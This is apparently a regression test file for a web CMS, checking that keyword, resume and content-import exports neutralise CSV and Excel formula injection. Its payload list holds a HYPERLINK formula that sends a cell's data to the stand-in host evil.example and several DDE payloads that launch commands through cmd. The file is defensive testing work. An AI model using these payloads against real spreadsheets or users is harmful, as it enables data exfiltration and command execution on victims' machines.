import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app';
import { uniqueName } from '../helpers/fixtures';
import { createColumn, createField, createModel, createSite, uniqueDomain } from '../helpers/sites';
import { templateCsv } from '../../server/operations/contentImport/sheet';
import { neutralise as keywordCell } from '../../server/operations/keywords/exporting';
import { neutraliseCell as formCell } from '../../models/form';
import { neutraliseCell as resumeCell } from '../../models/position';

// Issue 15, attack regressions: CSV and Excel formula injection. A value that starts with = + - @ TAB or CR
// is run by a spreadsheet as a formula (DDE, HYPERLINK exfiltration). Every export (keywords, resumes, form
// submissions, plugin pages) writes such a cell with a leading apostrophe; a plain value is left as it was.

const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=2+2'];
const FORMULA_START = /^[=+\-@\t\r]/;

let t: TestApp;
let token: string;
let siteId: number;
beforeAll(async () => {
  t = await startTestApp({ rateLimit: { api: 3000, login: 1000 } });
  token = await t.login();
  siteId = await createSite(t, token, { name: 'Exports', domain: uniqueDomain('exports') });
});
afterAll(() => t?.close());

const api = () => t.client(token, { siteId });

/** A minimal RFC 4180 reader (quoted cells, doubled quotes, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    } else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

async function download(url: string) {
  const res = await fetch(`${t.url}/api${url}`, { headers: { 'x-token': token, 'x-site-id': String(siteId), 'x-language': 'en' } });
  expect(res.status).toBe(200);
  return Buffer.from(await res.arrayBuffer());
}

async function csvCells(url: string): Promise<string[]> {
  const bytes = await download(url);
  expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  return parseCsv(bytes.subarray(3).toString('utf8')).flat();
}

async function xlsxCells(url: string): Promise<Array<{ value: string; formula: unknown }>> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await download(url)) as never);
  const cells: Array<{ value: string; formula: unknown }> = [];
  book.worksheets[0]!.eachRow((row) => row.eachCell((cell) => cells.push({ value: String(cell.value ?? ''), formula: cell.formula })));
  return cells;
}

/** No cell is a formula; each payload is there, behind an apostrophe (trimmed payloads allowed). */
function expectNeutralised(cells: string[], payloads: string[], plain: string[]) {
  for (const c of cells) expect(c, JSON.stringify(c)).not.toMatch(FORMULA_START);
  for (const p of payloads) expect(cells.some((c) => c === `'${p}` || c === `'${p.trim()}`), JSON.stringify(p)).toBe(true);
  for (const p of plain) expect(cells).toContain(p);
}

describe('formula injection: the neutralising functions every export uses', () => {
  const templateCell = (v: string) => parseCsv(templateCsv([v]).slice(1))[0]![0]!;
  const functions = { keywords: keywordCell, 'form submissions': formCell, resumes: resumeCell, 'content import template': templateCell };
  for (const [name, fn] of Object.entries(functions)) {
    it.each(['=', '+', '-', '@', '\t', '\r'])(`${name}: a cell starting with %j gets a leading apostrophe`, (start) => {
      const value = `${start}1+1`;
      expect(fn(value)).toBe(`'${value}`);
    });
    it(`${name}: plain, numeric-looking and inner-formula values are unchanged`, () => {
      for (const v of ['hello', '12', '1=1', 'a+b', ' x', '', 'mail@example.com']) expect(fn(v)).toBe(v);
    });
  }
});

describe('formula injection: exports over the API', () => {
  it('keyword export (CSV and xlsx): every formula-like keyword name is neutralised, plain ones kept', async () => {
    const plain = uniqueName('plainword');
    for (const name of [...PAYLOADS, plain]) {
      const res = await api().post('/keyword/save', { name, link: '/k', weight: 1 });
      expect(res.code, `${JSON.stringify(name)}: ${res.msg}`).toBe(0);
    }
    expectNeutralised(await csvCells('/keyword/export?format=csv'), PAYLOADS, [plain, '/k']);
    const xlsx = await xlsxCells('/keyword/export?format=xlsx');
    for (const c of xlsx) expect(c.formula).toBeUndefined();
    expectNeutralised(xlsx.map((c) => c.value), PAYLOADS, [plain, '/k']);
  });

  it('resume export (CSV and xlsx): formula-like names, phones and messages from applicants are neutralised', async () => {
    const cate = await api().post('/positionCate/save', { name: uniqueName('cate') });
    const city = await api().post('/positionCity/save', { name: uniqueName('city') });
    const pos = await api().post('/position/save', { title: PAYLOADS[0], negotiable: true, cate_id: cate.data.id, city_id: city.data.id });
    expect(pos.code, pos.msg).toBe(0);
    const tag = uniqueName('applicant');
    for (const p of PAYLOADS) {
      const form = new FormData();
      for (const [k, v] of Object.entries({ position_id: String(pos.data.id), name: `${tag} x`, email: 'a@example.com', message: p })) form.append(k, v);
      const res = await fetch(`${t.url}/api/resume/save`, { method: 'POST', headers: { 'x-token': token, 'x-site-id': String(siteId) }, body: form });
      const json = (await res.json()) as { code: number; msg: string };
      expect(json.code, json.msg).toBe(0);
    }
    const q = `name=${encodeURIComponent(tag)}`;
    expectNeutralised(await csvCells(`/resume/export?format=csv&${q}`), PAYLOADS.filter((p) => p.trim() !== ''), [`${tag} x`, 'a@example.com']);
    const xlsx = await xlsxCells(`/resume/export?format=xlsx&${q}`);
    for (const c of xlsx) expect(c.formula).toBeUndefined();
    expectNeutralised(xlsx.map((c) => c.value), PAYLOADS, [`${tag} x`, 'a@example.com']);
  });

  it('content import template (CSV): formula-like model field titles in the header row are neutralised, and the template still imports', async () => {
    const modelId = await createModel(t, token);
    const plain = uniqueName('Plain title');
    // Titles are trimmed when saved, so the TAB and CR payloads arrive as their formula.
    const titles = PAYLOADS.map((p) => p.trim());
    for (const [i, title] of [...titles, plain].entries()) await createField(t, token, modelId, { name: `f_${i}`, title });
    const columnId = await createColumn(t, token, siteId, { model_id: modelId });
    const cells = await csvCells(`/ContentImport/template?category_id=${columnId}`);
    expectNeutralised(cells, titles, [plain, 'title']);
    // The downloaded template, filled in and uploaded again, maps every neutralised header back to its field.
    const bytes = await download(`/ContentImport/template?category_id=${columnId}`);
    const filled = Buffer.concat([bytes, Buffer.from(['Row one', '<p>x</p>', ...titles.map(() => 'v'), 'v'].map((v) => `"${v}"`).join(',') + '\r\n')]);
    const form = new FormData();
    form.append('file', new Blob([new Uint8Array(filled)]), 'import.csv');
    const res = await fetch(`${t.url}/api/ContentImport/commission?category_id=${columnId}&commit=0`, { method: 'POST', headers: { 'x-token': token, 'x-site-id': String(siteId), 'x-language': 'en' }, body: form });
    const json = (await res.json()) as { code: number; msg: string; data: { mapping: Array<{ field: string }>; ignored: string[] } };
    expect(json.code, json.msg).toBe(0);
    expect(json.data.ignored).toEqual([]);
    expect(json.data.mapping.map((m) => m.field)).toEqual(expect.arrayContaining([...titles, plain].map((_, i) => `fields.f_${i}`)));
  });
});
